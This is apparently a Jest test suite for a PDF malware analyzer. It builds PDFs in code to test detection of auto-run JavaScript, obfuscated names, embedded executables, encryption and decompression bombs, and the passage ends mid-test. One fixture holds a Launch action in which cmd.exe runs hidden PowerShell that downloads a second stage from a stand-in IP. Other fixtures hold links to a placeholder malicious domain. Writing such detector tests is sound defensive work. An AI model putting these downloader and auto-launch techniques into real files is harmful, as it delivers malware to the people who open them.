import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { deflateSync } from 'node:zlib';
import { AnalysisPipeline } from '../pipeline';
import { testEngineOptions } from '../testing/engine-options';
import { fileContext } from '../testing/file-context';
import { appendUpdate, buildPdf, PdfObjectInput, pdfString, simpleDocument } from '../testing/pdf-writer';
import { minimalPe, seededBytes } from '../testing/samples';
import { AnalyzerResult, Verdict, VERDICT_ORDER } from '../types';
import { defaultAnalyzers } from './index';
import { PdfAnalyzer } from './pdf.analyzer';

/**
 * The PDF analyzer on PDFs written byte by byte at test time (testing/pdf-writer.ts) and on Debian's
 * clamav-testfiles clam.pdf (a harmless test PE attached to a page). No sample is committed.
 */
const sha256 = (b: Uint8Array | string) => createHash('sha256').update(b).digest('hex');
const analyzer = new PdfAnalyzer();
const run = (data: Uint8Array, name = 'document.pdf') => analyzer.analyze(fileContext(data, name));
const pipeline = new AnalysisPipeline(defaultAnalyzers());
const analyse = (data: Uint8Array, name = 'document.pdf') => pipeline.analyze({ name, data }, testEngineOptions());
type PdfFacts = Record<string, any>; // eslint-disable-line @typescript-eslint/no-explicit-any
const facts = (r: AnalyzerResult) => r.facts!.pdf as PdfFacts;
const ids = (r: AnalyzerResult) => r.signals!.map((s) => s.id);
const signal = (r: AnalyzerResult, id: string) => r.signals!.find((s) => s.id === id);
const atLeast = (v: Verdict, floor: Verdict) => VERDICT_ORDER.indexOf(v) >= VERDICT_ORDER.indexOf(floor);

/** app.alert as a decoy, then code assembled with String.fromCharCode and run with eval. */
const JS = 'app.alert("Your invoice is ready");\nvar payload = String.fromCharCode(118,97,114,32,120,32,61,32,49,59);\neval(payload);\n';
const JS_SHA256 = '0166f102b9994ee05958a943de478bce4e57df6302794c25f01f3b3a2147d805';

const openActionJs = () => simpleDocument({ catalog: ' /OpenAction 7 0 R', objects: [{ num: 7, body: `<< /Type /Action /S /JavaScript /JS ${pdfString(JS)} >>` }] });

describe('PdfAnalyzer', () => {
  it('the sample script has the expected digest', () => {
    expect(sha256(JS)).toBe(JS_SHA256);
  });

  it('OpenAction JavaScript: extracted exactly as a child, its text, triggers and obfuscation in the facts, pdf.* signals', async () => {
    const result = await run(openActionJs());
    expect(result.children).toEqual([{ name: 'script-7.js', relation: 'pdf-javascript', data: new Uint8Array(Buffer.from(JS)) }]);
    expect(sha256(result.children![0].data)).toBe(JS_SHA256);
    const pdf = facts(result);
    expect(pdf.javascript).toEqual([
      {
        name: 'script-7.js',
        object: 7,
        source: 'action',
        triggers: ['OpenAction'],
        automatic: true,
        size: JS.length,
        sha256: JS_SHA256,
        text: JS,
        obfuscation: ['eval', 'String.fromCharCode'],
        capabilities: ['app.alert'],
      },
    ]);
    expect(pdf.actions).toEqual([{ object: 7, type: 'JavaScript', triggers: ['OpenAction'], automatic: true }]);
    expect(pdf).toMatchObject({
      version: '1.7',
      objects: 7,
      streams: 1,
      pages: 1,
      info: { title: 'Quarterly report', author: 'Finance', producer: 'Test Writer 1.0', created: '2024-01-02T03:04:05+01:00' },
      incrementalUpdates: 0,
      xref: { valid: true, inUse: 7, objectsOutsideXref: 0 },
      keywords: { Page: 1, JS: 1, JavaScript: 1, OpenAction: 1, AA: 0, Launch: 0, EmbeddedFile: 0, URI: 0, ObjStm: 0, 'Colors > 2^24': 0 },
      filters: { FlateDecode: 1 },
      acroForm: false,
      xfa: false,
    });
    expect(ids(result)).toEqual(['pdf.javascript', 'pdf.auto_javascript', 'pdf.js_obfuscation']);
    expect(signal(result, 'pdf.auto_javascript')).toMatchObject({ verdict: Verdict.LikelyMalicious, evidence: ['script-7.js runs on OpenAction and is obfuscated (eval, String.fromCharCode)'] });
    expect(result.issues).toEqual([]);
    expect(result.tags).toEqual(['pdf', 'javascript', 'auto-action']);
  });

  it('through the pipeline with the default analyzers: at least SUSPICIOUS, the script analysed as a child', async () => {
    const result = await analyse(openActionJs(), 'invoice.pdf');
    const [pdf, script] = result.files;
    expect(pdf.analyzers).toContain('pdf');
    expect(atLeast(pdf.verdict.verdict, Verdict.Suspicious)).toBe(true);
    expect(pdf.verdict.verdict).toBe(Verdict.LikelyMalicious);
    expect(script).toMatchObject({ name: 'script-7.js', relation: 'pdf-javascript', parentIndex: 0, path: ['invoice.pdf', 'script-7.js'] });
    expect(script.digests.sha256).toBe(JS_SHA256);
    expect(script.identity.kind).toBe('javascript');
    expect(atLeast(result.verdict.verdict, Verdict.Suspicious)).toBe(true);
  });

  it('the same script inside a FlateDecode object stream with broken xref offsets is still found', async () => {
    const data = buildPdf(
      [
        { num: 1, body: '<< /Type /Catalog /Pages 2 0 R /OpenAction 7 0 R >>', compressed: true },
        { num: 2, body: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', compressed: true },
        { num: 3, body: '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>', compressed: true },
        { num: 7, body: `<< /S /JavaScript /JS ${pdfString(JS)} >>`, compressed: true },
      ],
      { trailer: '/Root 1 0 R', xref: 'stream', broken: 'offsets' },
    );
    expect(Buffer.from(data).includes('JavaScript')).toBe(false); // nothing to see without inflating the object stream
    const result = await run(data);
    expect(result.children!.map((c) => [c.name, sha256(c.data)])).toEqual([['script-7.js', JS_SHA256]]);
    expect(facts(result)).toMatchObject({ objectStreams: 1, keywords: { ObjStm: 1, JS: 1 }, xref: { valid: false, badOffsets: 2 } });
    expect(ids(result)).toEqual(['pdf.javascript', 'pdf.auto_javascript', 'pdf.js_obfuscation', 'pdf.malformed']);
    expect(signal(result, 'pdf.malformed')!.evidence[0]).toMatch(/^2 cross-reference entries point to the wrong place/);
    expect(result.tags).toContain('objstm');
  });

  it('a script in a compressed stream, reached through the JavaScript name tree, is named after its stream object', async () => {
    const data = simpleDocument({
      catalog: ' /Names << /JavaScript << /Names [(init) 8 0 R] >> >>',
      objects: [
        { num: 8, body: '<< /S /JavaScript /JS 9 0 R >>' },
        { num: 9, body: '<< >>', stream: JS, filters: ['FlateDecode'] },
      ],
    });
    const result = await run(data);
    expect(result.children!.map((c) => [c.name, sha256(c.data)])).toEqual([['script-9.js', JS_SHA256]]);
    expect(facts(result).javascript[0]).toMatchObject({ object: 9, triggers: ['Names/JavaScript'], automatic: true });
  });

  it('hex-escaped names (/J#61vaScript, /Open#41ction) are normalised, found and flagged', async () => {
    const data = simpleDocument({ catalog: ` /Open#41ction << /S /J#61vaScript /J#53 ${pdfString("app.alert('hi')")} >>` });
    const result = await run(data);
    expect(result.children!.map((c) => c.name)).toEqual(['script-1.js']);
    expect(facts(result).javascript[0]).toMatchObject({ object: 1, triggers: ['OpenAction'], automatic: true, text: "app.alert('hi')" });
    expect(facts(result).keywords).toMatchObject({ OpenAction: 1, JavaScript: 1, JS: 1 });
    expect(signal(result, 'pdf.name_obfuscation')!.evidence).toEqual(['/Open#41ction → /OpenAction', '/J#61vaScript → /JavaScript', '/J#53 → /JS']);
    expect(facts(result).obfuscatedNames).toEqual([
      { raw: 'Open#41ction', name: 'OpenAction' },
      { raw: 'J#61vaScript', name: 'JavaScript' },
      { raw: 'J#53', name: 'JS' },
    ]);
    // A script without obfuscation that runs by itself stays SUSPICIOUS.
    expect(signal(result, 'pdf.auto_javascript')!.verdict).toBeUndefined();
  });

  it('control characters in scripts and names are escaped in the facts (PostgreSQL jsonb refuses NUL), the child keeps the bytes', async () => {
    const data = simpleDocument({ catalog: ' /OpenAction << /S /JavaScript /JS (var a = "\\000\\001";) /X#00#41 1 >>' });
    const result = await run(data);
    expect(Buffer.from(result.children![0].data).toString('latin1')).toBe('var a = "\u0000\u0001";');
    expect(facts(result).javascript[0].text).toBe('var a = "\\x00\\x01";');
    expect(facts(result).obfuscatedNames).toEqual([{ raw: 'X#00#41', name: 'X\\x00A' }]);
    expect(JSON.stringify(result.facts)).not.toContain('\\u0000');
  });

  it('a Launch action running cmd.exe with parameters: target, parameters and ATT&CK techniques', async () => {
    const params = '/c powershell -nop -w hidden -c "iwr http://198.18.7.21/stage2.ps1 -OutFile $env:TEMP\\s.ps1"';
    const data = simpleDocument({
      catalog: ' /OpenAction 7 0 R',
      objects: [{ num: 7, body: `<< /S /Launch /Win << /F (cmd.exe) /P ${pdfString(params)} /D ${pdfString('C:\\Windows\\System32')} /O (open) >> >>` }],
    });
    const result = await run(data);
    expect(facts(result).launch).toEqual([
      { object: 7, triggers: ['OpenAction'], automatic: true, platform: 'Win', file: 'cmd.exe', parameters: params, directory: 'C:\\Windows\\System32', operation: 'open' },
    ]);
    expect(signal(result, 'pdf.launch_action')).toEqual({
      id: 'pdf.launch_action',
      evidence: [`Win: cmd.exe ${params} in C:\\Windows\\System32 on OpenAction`],
      verdict: Verdict.LikelyMalicious,
      strength: 0.8,
      mitre: ['T1059.003', 'T1059.001'],
    });
    expect(result.iocs).toEqual([
      { type: 'url', value: 'http://198.18.7.21/stage2.ps1', origin: 'pdf' },
      { type: 'ip', value: '198.18.7.21', origin: 'pdf' },
    ]);
    expect(result.tags).toContain('launch');
  });

  it('URI, SubmitForm and GoToR targets become IOCs (whitelisted infrastructure left out); executables, remote and UNC targets raise signals', async () => {
    const link = (n: number, action: string) => ({ num: n, body: `<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A ${action} >>` });
    const data = simpleDocument({
      page: ' /Annots [10 0 R 11 0 R 12 0 R 13 0 R 14 0 R]',
      objects: [
        link(10, '<< /S /URI /URI (http://downloads.evil-updates.net/invoice.exe) >>'),
        link(11, '<< /S /URI /URI (https://www.w3.org/TR/PDF/) >>'),
        link(12, '<< /S /URI /URI (mailto:billing@evil-updates.net) >>'),
        link(13, '<< /S /SubmitForm /F << /FS /URL /F (https://collect.evil-updates.net/submit) >> >>'),
        link(14, `<< /S /GoToR /F ${pdfString('\\\\198.18.9.9\\share\\terms.pdf')} /D [0 /Fit] >>`),
      ],
    });
    const result = await run(data);
    expect(result.iocs).toEqual([
      { type: 'url', value: 'http://downloads.evil-updates.net/invoice.exe', origin: 'pdf' },
      { type: 'url', value: 'https://collect.evil-updates.net/submit', origin: 'pdf' },
      { type: 'domain', value: 'downloads.evil-updates.net', origin: 'pdf' },
      { type: 'domain', value: 'collect.evil-updates.net', origin: 'pdf' },
      { type: 'email', value: 'billing@evil-updates.net', origin: 'pdf' },
      { type: 'ip', value: '198.18.9.9', origin: 'pdf' },
    ]);
    const pdf = facts(result);
    expect(pdf.uris).toEqual(['http://downloads.evil-updates.net/invoice.exe', 'https://www.w3.org/TR/PDF/', 'mailto:billing@evil-updates.net']);
    expect(pdf.remoteTargets).toEqual([
      { action: 'SubmitForm', target: 'https://collect.evil-updates.net/submit' },
      { action: 'GoToR', target: '\\\\198.18.9.9\\share\\terms.pdf' },
    ]);
    expect(pdf.actions.map((a: { type: string; triggers: string[]; automatic: boolean }) => [a.type, a.triggers, a.automatic])).toEqual([
      ['URI', ['Annotation A'], false],
      ['URI', ['Annotation A'], false],
      ['URI', ['Annotation A'], false],
      ['SubmitForm', ['Annotation A'], false],
      ['GoToR', ['Annotation A'], false],
    ]);
    expect(ids(result)).toEqual(['pdf.uri_executable', 'pdf.unc_path', 'pdf.remote_action']);
    expect(signal(result, 'pdf.uri_executable')!.evidence).toEqual(['URI http://downloads.evil-updates.net/invoice.exe']);
    expect(signal(result, 'pdf.unc_path')!.evidence).toEqual(['GoToR \\\\198.18.9.9\\share\\terms.pdf']);
  });

  it('an ordinary PDF with links and fonts is NO_THREAT', async () => {
    const data = simpleDocument({
      page: ' /Annots [<< /Type /Annot /Subtype /Link /Rect [72 700 200 712] /A << /S /URI /URI (https://www.acme-corp.com/pricing) >> >> << /Type /Annot /Subtype /Link /Rect [72 680 200 692] /Dest [3 0 R /Fit] >>]',
      objects: [{ num: 8, body: '<< /Type /FontDescriptor /FontName /ABCDEF#2BHelvetica#20Neue /Flags 32 >>' }],
    });
    const result = await analyse(data, 'pricing.pdf');
    const [file] = result.files;
    expect(file.signals).toEqual([]);
    expect(file.issues).toEqual([]);
    expect(result.files).toHaveLength(1);
    expect(file.iocs).toContainEqual({ type: 'url', value: 'https://www.acme-corp.com/pricing', origins: expect.arrayContaining(['pdf']) });
    expect(result.verdict.verdict).toBe(Verdict.NoThreat);
    expect((file.resources.pdf as PdfFacts).uris).toEqual(['https://www.acme-corp.com/pricing']);
  });

  it('a script behind a link click is JavaScript, not automatic: SUSPICIOUS', async () => {
    const data = simpleDocument({ page: ' /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /JavaScript /JS (this.print\\(\\);) >> >>]' });
    const result = await run(data);
    expect(ids(result)).toEqual(['pdf.javascript']);
    expect(facts(result).javascript[0]).toMatchObject({ name: 'script-3.js', triggers: ['Annotation A'], automatic: false, text: 'this.print();' });
    const flow = await analyse(data);
    expect(flow.files[0].verdict.verdict).toBe(Verdict.Suspicious);
  });

  it('additional actions of pages and form fields, and /Next chains, say what triggers them', async () => {
    const data = simpleDocument({
      catalog: ' /AcroForm << /Fields [9 0 R] >> /AA << /WC << /S /JavaScript /JS (var closing = 3;) >> >>',
      page: ' /AA << /O 8 0 R >>',
      objects: [
        { num: 8, body: '<< /S /JavaScript /JS (var opened = 1;) /Next << /S /JavaScript /JS (var chained = 2;) >> >>' },
        { num: 9, body: '<< /FT /Tx /T (amount) /AA << /K << /S /JavaScript /JS (AFNumber_Keystroke\\(2\\);) >> /C << /S /JavaScript /JS (AFSimple_Calculate\\("SUM"\\);) >> >> >>' },
      ],
    });
    const pdf = facts(await run(data));
    const byText = Object.fromEntries(pdf.javascript.map((s: { text: string; triggers: string[]; automatic: boolean }) => [s.text, [s.triggers, s.automatic]]));
    expect(byText).toEqual({
      'var opened = 1;': [['Page AA/O'], true],
      'var chained = 2;': [['Page AA/O'], true],
      'AFNumber_Keystroke(2);': [['Field AA/K'], false],
      'AFSimple_Calculate("SUM");': [['Field AA/C'], true],
      'var closing = 3;': [['Document AA/WC'], true],
    });
    expect(pdf.acroForm).toBe(true);
  });

  it('clam.pdf (clamav-testfiles): the attached clam.exe extracted with its name and digest', async () => {
    const data = new Uint8Array(readFileSync('/usr/share/clamav-testfiles/clam.pdf'));
    const result = await run(data, 'clam.pdf');
    expect(result.children!.map((c) => [c.name, c.relation, c.data.length, sha256(c.data)])).toEqual([
      ['clam.exe', 'pdf-embedded-file', 544, '71e7b604d18aefd839e51a39c88df8383bb4c071dc31f87f00a2b5df580d4495'],
    ]);
    expect(sha256(result.children![0].data)).toBe(sha256(readFileSync('/usr/share/clamav-testfiles/clam.exe')));
    const pdf = facts(result);
    expect(pdf.embeddedFiles).toEqual([
      { object: 15, name: 'clam.exe', via: ['FileAttachment annotation'], size: 544, sha256: '71e7b604d18aefd839e51a39c88df8383bb4c071dc31f87f00a2b5df580d4495', kind: 'pe', mime: 'clam.exe198' },
    ]);
    expect(pdf).toMatchObject({
      version: '1.4',
      objects: 17,
      pages: 1,
      info: { producer: 'Gnostice PDFtoolkit V2.02', created: '2008-05-06T18:39:30+02:00', modified: '2008-05-06T18:39:30+02:00' },
      xmp: { producer: 'GPL Ghostscript 8.61', creatorTool: 'UnknownApplication', title: 'Untitled', created: '2008-05-06T18:39:30+02:00' },
      keywords: { EmbeddedFile: 1, Page: 1, JS: 0 },
    });
    // Its startxref is 9 bytes off and two table entries point before their objects: damaged, yet every object is found.
    expect(pdf.xref).toMatchObject({ startxref: 6758, sections: [{ offset: 6749, kind: 'table', entries: 18 }], valid: false, badOffsets: 2, badOffsetExamples: ['object 16 listed at offset 6390', 'object 17 listed at offset 6473'] });
    expect(pdf.xref.errors).toEqual(['startxref or /Prev points to offset 6758, where there is neither a table nor an object', 'the cross-reference table is at offset 6749']);
    expect(ids(result)).toEqual(['pdf.embedded_file', 'pdf.malformed']);
    expect(signal(result, 'pdf.embedded_file')).toMatchObject({ strength: 0.4, evidence: ['clam.exe (object 15, 544 bytes, via FileAttachment annotation)'] });

    const flow = await analyse(data, 'clam.pdf');
    expect(flow.files[0].verdict.verdict).toBe(Verdict.Informational);
    expect(flow.files[1]).toMatchObject({ name: 'clam.exe', relation: 'pdf-embedded-file', parentIndex: 0 });
    expect(flow.files[1].identity.kind).toBe('pe');
  });

  it('an executable in the EmbeddedFiles name tree that OpenAction JavaScript exports and launches: pdf.embedded_executable', async () => {
    const pe = minimalPe({ size: 2048 });
    const data = simpleDocument({
      catalog: ' /Names << /EmbeddedFiles << /Names [(update.exe) 10 0 R] >> >> /OpenAction << /S /JavaScript /JS (this.exportDataObject\\({ cName: "update.exe", nLaunch: 2 }\\);) >>',
      objects: [
        { num: 10, body: `<< /Type /Filespec /F (update.exe) /UF ${pdfString('update.exe')} /EF << /F 11 0 R >> /Desc (Security update) >>` },
        { num: 11, body: `<< /Type /EmbeddedFile /Subtype /application#2Fx-msdownload /Params << /Size ${pe.length} >> >>`, stream: pe, filters: ['FlateDecode'] },
      ],
    });
    const result = await run(data);
    expect(result.children!.map((c) => [c.name, c.relation, sha256(c.data)])).toEqual([
      ['script-1.js', 'pdf-javascript', sha256('this.exportDataObject({ cName: "update.exe", nLaunch: 2 });')],
      ['update.exe', 'pdf-embedded-file', sha256(pe)],
    ]);
    expect(facts(result).embeddedFiles).toEqual([
      { object: 11, name: 'update.exe', via: ['EmbeddedFiles name tree'], size: pe.length, sha256: sha256(pe), kind: 'pe', declaredSize: pe.length, mime: 'application/x-msdownload', description: 'Security update' },
    ]);
    expect(facts(result).javascript[0].capabilities).toEqual(['exportDataObject (launches an embedded file)', 'exportDataObject']);
    expect(ids(result)).toEqual(['pdf.javascript', 'pdf.auto_javascript', 'pdf.embedded_file', 'pdf.embedded_executable']);
    expect(signal(result, 'pdf.embedded_executable')!.evidence).toEqual(['update.exe (object 11, pe)']);
    expect((await analyse(data)).files[0].verdict.verdict).toBe(Verdict.LikelyMalicious);
  });

  it('an attached executable in a document whose OpenAction only turns to a page: informational', async () => {
    const pe = minimalPe();
    const data = simpleDocument({
      catalog: ' /OpenAction << /S /GoTo /D [3 0 R /Fit] >> /Names << /EmbeddedFiles << /Names [(tool.exe) 10 0 R] >> >>',
      objects: [
        { num: 10, body: '<< /Type /Filespec /F (tool.exe) /EF << /F 11 0 R >> >>' },
        { num: 11, body: '<< /Type /EmbeddedFile >>', stream: pe },
      ],
    });
    const result = await run(data);
    expect(facts(result).actions).toEqual([{ object: 1, type: 'GoTo', triggers: ['OpenAction'], automatic: true }]);
    expect(ids(result)).toEqual(['pdf.embedded_file']);
    expect((await analyse(data)).files[0].verdict.verdict).toBe(Verdict.Informational);
  });

  describe('encryption', () => {
    it.each([3, 4, 6] as const)('R%i, empty user password: decrypted and analysed', async (revision) => {
      const data = simpleDocument({ catalog: ' /OpenAction 7 0 R', objects: [{ num: 7, body: `<< /S /JavaScript /JS ${pdfString(JS)} >>` }], options: { encrypt: { revision } } });
      expect(Buffer.from(data).includes('fromCharCode')).toBe(false);
      const result = await run(data);
      expect(result.children!.map((c) => [c.name, sha256(c.data)])).toEqual([['script-7.js', JS_SHA256]]);
      expect(facts(result).encryption).toMatchObject({ filter: 'Standard', r: revision, userPasswordEmpty: true, decrypted: true });
      expect(facts(result).info.title).toBe('Quarterly report');
      expect(ids(result)).toEqual(['pdf.javascript', 'pdf.auto_javascript', 'pdf.js_obfuscation', 'pdf.encrypted']);
      expect(result.tags).toContain('encrypted');
    });

    it('a user password: reported as not analysable, the JavaScript action still seen', async () => {
      const data = simpleDocument({ catalog: ' /OpenAction 7 0 R', objects: [{ num: 7, body: `<< /S /JavaScript /JS ${pdfString(JS)} >>` }], options: { encrypt: { revision: 4, userPassword: 'secret' } } });
      const result = await run(data);
      expect(result.children).toEqual([]);
      expect(facts(result).encryption).toEqual({ filter: 'Standard', v: 4, r: 4, keyBits: 128, streamMethod: 'AESV2', stringMethod: 'AESV2', encryptMetadata: true, userPasswordEmpty: false, decrypted: false });
      expect(facts(result).info).toEqual({});
      expect(ids(result)).toEqual(['pdf.javascript', 'pdf.auto_javascript', 'pdf.encrypted_unreadable']);
      expect(signal(result, 'pdf.auto_javascript')!.evidence).toEqual(['JavaScript action in object 7 runs on OpenAction (script not readable)']);
      expect(result.issues).toEqual([{ analyzer: 'pdf', kind: 'limit', message: 'encrypted PDF (a user password is required): strings and streams were not analysed' }]);
    });

    const qpdf = existsSync('/usr/bin/qpdf');
    (qpdf ? it : it.skip)(`made by qpdf --encrypt "" owner 128${qpdf ? '' : ' (skipped: Debian package qpdf not installed)'}`, async () => {
      const work = mkdtempSync(join(tmpdir(), 'pdf-analyzer-'));
      try {
        writeFileSync(join(work, 'plain.pdf'), openActionJs());
        execFileSync('/usr/bin/qpdf', ['--allow-weak-crypto', '--encrypt', '', 'owner', '128', '--', join(work, 'plain.pdf'), join(work, 'rc4.pdf')]);
        const result = await run(new Uint8Array(readFileSync(join(work, 'rc4.pdf'))));
        expect(result.children!.map((c) => sha256(c.data))).toEqual([JS_SHA256]);
        expect(facts(result).encryption).toMatchObject({ v: 2, r: 3, keyBits: 128, streamMethod: 'RC4', userPasswordEmpty: true, decrypted: true });
      } finally {
        rmSync(work, { recursive: true, force: true });
      }
    });
  });

  it('XFA forms: JavaScript in <script> blocks extracted, initialize events count as automatic', async () => {
    const xfa = '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform name="form1"><event activity="initialize"><script contentType="application/x-javascript">var a = unescape("%u4141%u4141");\napp.alert(a &amp;&amp; 1);</script></event><event activity="click"><script contentType="application/x-formcalc">$.rawValue = 1</script></event></subform></template></xdp:xdp>';
    const data = simpleDocument({ catalog: ' /AcroForm << /Fields [] /XFA 8 0 R >>', objects: [{ num: 8, body: '<< >>', stream: xfa, filters: ['FlateDecode'] }] });
    const result = await run(data);
    expect(result.children!.map((c) => [c.name, Buffer.from(c.data).toString()])).toEqual([['xfa-script-8-1.js', 'var a = unescape("%u4141%u4141");\napp.alert(a && 1);']]);
    expect(facts(result)).toMatchObject({ acroForm: true, xfa: true, xfaScripts: 2 });
    expect(facts(result).javascript[0]).toMatchObject({ source: 'xfa', triggers: ['XFA'], automatic: true, obfuscation: ['unescape'] });
    expect(ids(result)).toEqual(['pdf.javascript', 'pdf.auto_javascript', 'pdf.js_obfuscation', 'pdf.xfa_script']);
  });

  it('JavaScript added by an incremental update', async () => {
    const base = simpleDocument();
    const updated = appendUpdate(
      base,
      [
        { num: 1, body: '<< /Type /Catalog /Pages 2 0 R /OpenAction 7 0 R >>' },
        { num: 7, body: `<< /S /JavaScript /JS ${pdfString(JS)} >>` },
      ],
      { trailer: '/Root 1 0 R /Info 6 0 R', objectStreamNum: 20 },
    );
    const result = await run(updated);
    const pdf = facts(result);
    expect(pdf).toMatchObject({ incrementalUpdates: 1, eofMarkers: 2, xref: { valid: true, sections: [{ kind: 'table', entries: 2 }, { kind: 'table', entries: 7 }] } });
    expect(pdf.javascript[0]).toMatchObject({ name: 'script-7.js', revision: 1 });
    expect(signal(result, 'pdf.late_javascript')!.evidence).toEqual(['script-7.js (object 7) added by update 1 of 1']);
    expect(result.tags).toContain('incremental-update');
  });

  it('JBIG2, /Colors above 2^24 and rich media', async () => {
    const data = simpleDocument({
      objects: [
        { num: 8, body: '<< /Type /XObject /Subtype /Image /Width 8 /Height 8 /BitsPerComponent 1 /Filter /JBIG2Decode >>', encoded: seededBytes(64, 3) },
        { num: 9, body: '<< /Filter /FlateDecode /DecodeParms << /Predictor 2 /Colors 1073741838 /Columns 1 >> >>', encoded: deflateSync(Buffer.alloc(8)) },
        { num: 10, body: '<< /Type /Annot /Subtype /RichMedia /RichMediaContent << >> >>' },
      ],
    });
    const result = await run(data);
    expect(ids(result)).toEqual(['pdf.richmedia', 'pdf.jbig2', 'pdf.colors_overflow']);
    expect(facts(result).keywords).toMatchObject({ JBIG2Decode: 1, RichMedia: 1, 'Colors > 2^24': 1 });
  });

  describe('hostile input: never throws, records what it could not do, stays bounded', () => {
    it('a truncated file: the stream cut short still gives the script it holds', async () => {
      const long = `${'var filler = 0;\n'.repeat(2000)}app.alert("end");`;
      const full = simpleDocument({ catalog: ' /OpenAction 7 0 R', objects: [{ num: 7, body: '<< /S /JavaScript /JS 8 0 R >>' }, { num: 8, body: '<< >>', stream: long, filters: ['FlateDecode'] }] });
      const cut = full.indexOf(0x78, Buffer.from(full).indexOf('8 0 obj')) + 60;
      const result = await run(full.subarray(0, cut));
      const script = facts(result).javascript[0];
      expect(script).toMatchObject({ name: 'script-8.js', damaged: 'FlateDecode: truncated data or missing checksum' });
      expect(long.startsWith(Buffer.from(result.children![0].data).toString())).toBe(true);
      expect(result.issues!.map((i) => i.kind)).toEqual(['error']);
      expect(signal(result, 'pdf.malformed')!.evidence).toEqual(expect.arrayContaining(['no %%EOF marker', '1 stream(s) without endstream']));
    });

    it('a deflate bomb: refused without inflating it, pdf.stream_bomb', async () => {
      const bomb = deflateSync(Buffer.alloc(256 * 1024 * 1024), { level: 9 });
      const data = simpleDocument({
        catalog: ' /Names << /EmbeddedFiles << /Names [(zeros.bin) 10 0 R] >> >>',
        objects: [
          { num: 10, body: '<< /Type /Filespec /F (zeros.bin) /EF << /F 11 0 R >> >>' },
          { num: 11, body: '<< /Type /EmbeddedFile /Filter /FlateDecode >>', encoded: bomb },
        ],
      });
      const started = Date.now();
      const result = await run(data);
      expect(Date.now() - started).toBeLessThan(10_000);
      expect(result.children).toEqual([]);
      // At most max(16 MiB, 200 × the encoded size) is decoded from one stream.
      const limit = Math.max(16 * 1024 * 1024, bomb.length * 200);
      expect(limit).toBeLessThan(64 * 1024 * 1024);
      expect(facts(result).embeddedFiles[0]).toMatchObject({ name: 'zeros.bin', size: 0, refused: `FlateDecode output exceeds ${limit} bytes` });
      expect(ids(result)).toEqual(['pdf.embedded_file', 'pdf.stream_bomb']);
      expect(result.issues).toContainEqual({ analyzer: 'pdf', kind: 'limit', message: `stream 11 0: FlateDecode output exceeds ${limit} bytes; not decoded` });
    });

    it('objects and bytes after the last %%EOF: malformed, INFORMATIONAL', async () => {
      const data = Buffer.concat([Buffer.from(simpleDocument()), Buffer.from('9 0 obj\n<< /Hidden true >>\nendobj\nGARBAGE')]);
      const result = await run(new Uint8Array(data));
      expect(signal(result, 'pdf.malformed')!.evidence).toEqual(['1 object(s) not listed in the cross-reference data (9)', '1 object(s) after the last %%EOF', '41 byte(s) after the last %%EOF']);
      expect((await analyse(new Uint8Array(data))).files[0].verdict.verdict).toBe(Verdict.Informational);
    });

    it('more embedded files than the flow may extract: the rest refused once, with the container signal', async () => {
      const objects: PdfObjectInput[] = [];
      const names: string[] = [];
      for (let i = 0; i < 8; i++) {
        names.push(`(f${i}.txt) ${10 + 2 * i} 0 R`);
        objects.push({ num: 10 + 2 * i, body: `<< /Type /Filespec /F (f${i}.txt) /EF << /F ${11 + 2 * i} 0 R >> >>` }, { num: 11 + 2 * i, body: '<< /Type /EmbeddedFile >>', stream: `file ${i}` });
      }
      const data = simpleDocument({ catalog: ` /Names << /EmbeddedFiles << /Names [${names.join(' ')}] >> >>`, objects });
      const options = testEngineOptions({ limits: { maxFiles: 6 } });
      const result = await analyzer.analyze(fileContext(data, 'many.pdf', { options, extractionBudget: { files: 5, bytes: 1 << 20 } }));
      expect(result.children!.map((c) => c.name)).toEqual(['f0.txt', 'f1.txt', 'f2.txt', 'f3.txt', 'f4.txt']);
      expect(result.issues).toEqual([{ analyzer: 'pdf', kind: 'limit', message: '3 file(s) not extracted: more than 6 files in this submission' }]);
      expect(signal(result, 'archive.too_many_files')!.evidence).toEqual(['3 file(s) not extracted: more than 6 files in this submission', 'f5.txt', 'f6.txt', 'f7.txt']);
      expect(facts(result).embeddedFiles).toHaveLength(8);
    });

    it('a /Prev chain that loops', async () => {
      const result = await run(simpleDocument({ options: { broken: 'prev-loop' } }));
      expect(facts(result).xref).toMatchObject({ loop: true, valid: false });
      expect(ids(result)).toEqual(['pdf.malformed']);
    });

    it('100,000 tiny objects', async () => {
      const parts = ['%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\n'];
      for (let i = 2; i <= 100_001; i++) parts.push(`${i} 0 obj\n${i}\nendobj\n`);
      parts.push('trailer\n<< /Root 1 0 R >>\n%%EOF\n');
      const started = Date.now();
      const result = await run(new Uint8Array(Buffer.from(parts.join(''))));
      expect(Date.now() - started).toBeLessThan(20_000);
      expect(facts(result).objects).toBe(100_001);
      expect(result.issues!.filter((i) => i.kind !== 'error')).toEqual([]);
    });

    it('past the value budget, filler is dropped but a script at the end is still found', async () => {
      const filler: PdfObjectInput[] = Array.from({ length: 300 }, (_, i) => ({ num: 100 + i, body: `[${'<< /A /B >> '.repeat(20)}]` }));
      const data = simpleDocument({ catalog: ' /OpenAction 7 0 R', objects: [...filler, { num: 7, body: `<< /S /JavaScript /JS ${pdfString(JS)} >>` }] });
      const result = await new PdfAnalyzer({ maxValues: 2000 }).analyze(fileContext(data, 'filler.pdf'));
      expect(result.children!.map((c) => sha256(c.data))).toEqual([JS_SHA256]);
      expect(result.issues).toEqual([{ analyzer: 'pdf', kind: 'limit', message: 'more than 2000 values: later objects were kept only when they hold actions, scripts, forms, embedded files or document structure' }]);
      expect(facts(result).objects).toBe(307);
    });

    it('deeply nested arrays and dictionaries', async () => {
      const data = Buffer.from(`%PDF-1.4\n1 0 obj\n${'['.repeat(200_000)}\nendobj\n2 0 obj\n${'<< /A '.repeat(50_000)}\nendobj\n3 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer << /Root 3 0 R >>\n%%EOF\n`);
      const result = await run(new Uint8Array(data));
